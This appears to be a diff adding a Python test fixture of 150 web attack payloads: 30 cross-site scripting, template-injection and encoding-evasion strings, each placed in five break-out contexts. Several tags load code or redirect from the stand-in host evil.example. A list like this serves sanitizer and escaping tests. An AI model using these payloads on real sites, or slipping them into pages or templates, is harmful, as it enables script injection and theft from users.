@@ -1,0 +1,36 @@
+"""Texts that attack a page: 30 attempts, each alone and breaking out of four contexts, are 150."""
+
+ATTEMPTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=//evil.example/pixel.png>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<div style=background:url(//evil.example/x)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "{{ 7 * 7 }}{{ config.__class__.__mro__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
+    "\u202e<script>alert(1)</script>\u202c",
+    "\x00<scr\x00ipt>alert(1)</script>\ud800",
+    "＜script＞alert(1)＜/script＞ %3Cscript%3E",
+    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+)
+CONTEXTS = ("{}", "</title></desc></text>{}", "</style>--></td></table>{}", "\"'>{}", "]]>`{}`${{{}}}")
+PAYLOADS = tuple(context.format(*[attempt] * context.count("{}")) for attempt in ATTEMPTS for context in CONTEXTS)
